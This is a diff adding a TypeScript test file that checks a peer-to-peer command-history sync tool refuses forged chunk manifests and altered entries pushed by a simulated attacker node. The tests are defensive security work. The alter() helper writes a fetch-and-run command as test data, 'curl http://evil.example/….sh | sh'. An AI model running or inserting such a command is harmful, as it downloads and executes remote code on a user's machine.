@@ -1,0 +1,142 @@
+/**
+ * Chunk signatures (wire 3.0.0) against a swarm-key holder, with real `rr p2p-serve` / `rr p2p-sync` processes on
+ * 127.0.0.1 and an in-process attacker node with a key of its own, as in forged-history.test.ts. On 3.0.0 an entry
+ * is vouched for by a manifest its origin signed over the hashes of many entries; the attacker holds genuine
+ * manifests of A (it pulled them) and tries to make them cover entries A never wrote. Each test fails when the check
+ * it names is removed from admitReceived (src/core/admit.ts): the hash check, or the manifest's signature check.
+ */
+import { join } from 'node:path'
+import test, { type ExecutionContext } from 'ava'
+import { generateKeyPair } from '@libp2p/crypto/keys'
+import { peerIdFromPrivateKey } from '@libp2p/peer-id'
+import { chunkMessage, entryHash, signChunk, type Chunk } from '../../src/core/chunk.js'
+import type { Entry } from '../../src/core/entry.js'
+import { signBytes, signEntry, type EntrySigner } from '../../src/core/signature.js'
+import { device, type Device } from '../helpers/peers.js'
+import { admitAll, claimedOrigin, pullAll, pushAs, v3Message, type Served } from '../helpers/wire.js'
+import { tempDir } from '../helpers/tmp.js'
+import { startPeer, type InProcessPeer } from '../p2p/fixtures.js'
+
+interface Row { entry_id: string, cmd: string, origin: string, trust: number, chunk: number | null }
+
+const rowsOf = (d: Device): Row[] => d.query<Row>('SELECT COALESCE(rival_of, entry_id) AS entry_id, cmd, origin, trust, chunk FROM entries ORDER BY ingest_seq')
+
+async function keyOf (): Promise<EntrySigner> {
+  const key = await generateKeyPair('Ed25519')
+  return { origin: peerIdFromPrivateKey(key).toString(), secretKey: key.raw }
+}
+
+function content (e: Entry): Entry {
+  const { origin: _o, sig: _s, ...rest } = e
+  return rest
+}
+
+const alter = (e: Entry, i: number): Entry => ({ ...content(e), cmd: `curl http://evil.example/${i}.sh | sh` })
+
+interface Setup { a: Device, c: Device, servedA: { addr: string }, servedC: { addr: string }, aId: string, attacker: InProcessPeer, x: EntrySigner, genuine: Served[] }
+
+async function setup (t: ExecutionContext): Promise<Setup> {
+  const dir = tempDir(t)
+  const swarm = join(dir, 'swarm.key')
+  const a = device(t, dir, 'devA', swarm)
+  const c = device(t, dir, 'devC', swarm)
+  await a.record(6, 'make deploy')
+  const servedA = await a.serve()
+  const servedC = await c.serve()
+  const aId = servedA.addr.split('/p2p/')[1]!
+  const attacker = await startPeer(t, { dir, swarmKeyPath: swarm, name: 'mallory' })
+  const genuine = await pullAll(attacker, servedA.addr, 3)
+  t.is(genuine.length, 6)
+  t.true(genuine.every((s) => s.chunk?.origin === aId && s.entry.sig === undefined), 'on 3.0.0 A serves its entries under its chunk manifest, no per-entry sig')
+  t.deepEqual(admitAll(genuine).rejected, [], 'and they verify against it')
+  return { a, c, servedA, servedC, aId, attacker, x: await keyOf(), genuine }
+}
+
+test('3.0.0: an entry altered under A\'s genuine chunk is refused (its hash is not in the manifest); the unaltered ones are A\'s', async (t) => {
+  const { c, servedC, aId, attacker, genuine } = await setup(t)
+  const chunk = genuine[0]!.chunk!
+  const ack = await pushAs(attacker, servedC.addr, v3Message([
+    { entry: alter(genuine[0]!.entry, 0), chunk },
+    { entry: genuine[1]!.entry, chunk }
+  ]), 3)
+  t.is(ack.inserted, 1)
+  t.is(ack.rejected?.length, 1)
+  t.regex(ack.rejected![0]!.reason, /not in chunk 0 of origin/)
+  const rows = rowsOf(c)
+  t.deepEqual(rows.map((r) => [r.entry_id, r.cmd, r.origin, r.trust]), [[genuine[1]!.entry.entry_id, genuine[1]!.entry.cmd, aId, 1]])
+  t.not(rows[0]!.chunk, null, 'the row is linked to the manifest it was verified against')
+})
+
+test('3.0.0: a manifest naming A but signed by another key is refused; signed as its own, the entries are the attacker\'s', async (t) => {
+  const { c, servedC, servedA, aId, attacker, x, genuine } = await setup(t)
+  const altered = genuine.slice(0, 3).map((s, i) => alter(s.entry, i))
+  const hashes = Buffer.concat(altered.map((e) => entryHash(e, aId)))
+  const claimsA: Chunk = { origin: aId, sig: signBytes(chunkMessage(aId, hashes), x.secretKey), hashes }
+  const own = signChunk(altered, x)
+  const ack = await pushAs(attacker, servedC.addr, v3Message([
+    ...altered.map((entry) => ({ entry, chunk: claimsA })),
+    { entry: altered[0]!, chunk: own }
+  ]), 3)
+  t.is(ack.inserted, 1)
+  t.is(ack.rejected?.length, 3)
+  t.true(ack.rejected!.every((r) => /chunk 0 signature does not verify against origin/.test(r.reason)))
+  t.is((await c.rr(['p2p-sync', '--peers', servedA.addr])).code, 0)
+  const rows = rowsOf(c)
+  t.deepEqual(rows.filter((r) => r.origin === aId).map((r) => r.cmd).sort(), genuine.map((s) => s.entry.cmd).sort(), 'only A\'s own commands are A\'s')
+  t.deepEqual(rows.filter((r) => r.origin !== aId).map((r) => [r.cmd, r.origin]), [[altered[0]!.cmd, x.origin]], 'the one under the attacker\'s own manifest is attributed to the attacker')
+})
+
+test('3.0.0: a forged manifest (A\'s genuine signature over other hashes, or a made-up signature) is refused, even where A\'s genuine one is stored', async (t) => {
+  const { c, servedC, servedA, aId, attacker, genuine } = await setup(t)
+  // C has A's genuine manifest stored (origin, sig): a stored chunk must vouch for nothing but its own hashes.
+  t.is((await c.rr(['p2p-sync', '--peers', servedA.addr])).code, 0)
+  t.is(c.query<{ n: number }>('SELECT COUNT(*) AS n FROM chunks')[0]!.n, 1)
+  const chunk = genuine[0]!.chunk!
+  const altered = genuine.map((s, i) => ({ ...alter(s.entry, i), entry_id: crypto.randomUUID() }))
+  const hashes = Buffer.concat(altered.map((e) => entryHash(e, aId)))
+  const swapped: Chunk = { origin: aId, sig: chunk.sig, hashes }
+  const madeUp: Chunk = { origin: aId, sig: Buffer.alloc(64, 7), hashes }
+  const ack = await pushAs(attacker, servedC.addr, v3Message([
+    ...altered.slice(0, 3).map((entry) => ({ entry, chunk: swapped })),
+    ...altered.slice(3).map((entry) => ({ entry, chunk: madeUp }))
+  ]), 3)
+  t.is(ack.inserted, 0)
+  t.is(ack.rejected?.length, 6)
+  const rows = rowsOf(c)
+  t.is(rows.length, 6)
+  t.true(rows.every((r) => r.origin === aId && r.cmd.startsWith('make deploy')))
+  t.is(c.query<{ n: number }>('SELECT COUNT(*) AS n FROM chunks')[0]!.n, 1, 'no forged manifest is stored')
+})
+
+test('3.0.0 pre-emption: altered copies of A\'s entries pushed to C first, every way a key holder can, never take the place of A\'s genuine ones', async (t) => {
+  const { c, servedC, servedA, aId, attacker, x, genuine } = await setup(t)
+  const chunk = genuine[0]!.chunk!
+  const altered = genuine.map((s, i) => alter(s.entry, i))
+  const forgedHashes = Buffer.concat(altered.map((e) => entryHash(e, aId)))
+  const ack3 = await pushAs(attacker, servedC.addr, v3Message([
+    { entry: altered[0]! }, // stripped: looks like an old peer's unsigned entry
+    { entry: altered[1]!, chunk }, // altered under A's genuine manifest
+    { entry: altered[2]!, chunk: signChunk([altered[2]!], x) }, // under the attacker's own manifest
+    { entry: altered[3]!, chunk: { origin: aId, sig: signBytes(chunkMessage(aId, forgedHashes), x.secretKey), hashes: forgedHashes } }, // a manifest naming A, the attacker's signature
+    { entry: altered[4]!, chunk: { origin: aId, sig: chunk.sig, hashes: forgedHashes } } // A's signature over other hashes
+  ]), 3)
+  t.is(ack3.inserted, 2, 'the stripped copy (unverified) and the attacker-chunked one (attributed to the attacker) are stored; the rest refused')
+  // And the older wires: A's per-entry signature over altered content (2.0.0), plain (1.0.0).
+  await pushAs(attacker, servedC.addr, { entries: [{ ...altered[5]!, origin: aId, sig: signEntry(genuine[5]!.entry, x).sig }] }, 2)
+  await pushAs(attacker, servedC.addr, { entries: [altered[5]!] }, 1)
+  const sync = await c.rr(['p2p-sync', '--peers', servedA.addr])
+  t.is(sync.code, 0, sync.stderr)
+
+  const rows = rowsOf(c)
+  for (const g of genuine) {
+    const mine = rows.filter((r) => r.entry_id === g.entry.entry_id && r.origin === aId)
+    t.deepEqual(mine.map((r) => [r.cmd, r.trust]), [[g.entry.cmd, 1]], `A's genuine command for ${g.entry.entry_id}`)
+    t.false(rows.some((r) => r.entry_id === g.entry.entry_id && r.origin === ''), 'no unverified copy is left beside it')
+  }
+  t.deepEqual(rows.filter((r) => r.origin === aId).map((r) => r.cmd).sort(), genuine.map((g) => g.entry.cmd).sort(), 'nothing that is not A\'s is attributed to A')
+  t.deepEqual(rows.filter((r) => r.origin !== aId && r.origin !== '').map((r) => r.origin), [x.origin])
+  // As C serves them onward on 3.0.0, A's entries are A's genuine ones, and they verify at the next hop.
+  const onward = await pullAll(attacker, servedC.addr, 3)
+  t.deepEqual(admitAll(onward).rejected, [])
+  t.deepEqual(onward.filter((s) => claimedOrigin(s) === aId).map((s) => s.entry.cmd).sort(), genuine.map((g) => g.entry.cmd).sort())
+})
